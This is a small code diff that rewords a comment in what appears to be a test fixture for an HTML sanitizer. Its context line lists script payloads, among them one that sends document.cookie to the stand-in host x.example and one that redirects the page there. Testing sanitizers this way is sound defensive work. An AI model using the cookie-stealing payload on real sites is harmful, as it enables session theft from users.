@@ -1,5 +1,6 @@
 /**
- * Rich texts that would run scripts if they were shown unsanitized: for the sanitizer's test and for a real browser.
+ * Rich texts that would run scripts if they were shown unsanitized: for the test of the sanitizer and for a test in a
+ * real browser.
  */
 
 const codes = ["alert(1)", "fetch('//x.example/'+document.cookie)", "top.location='//x.example'"];
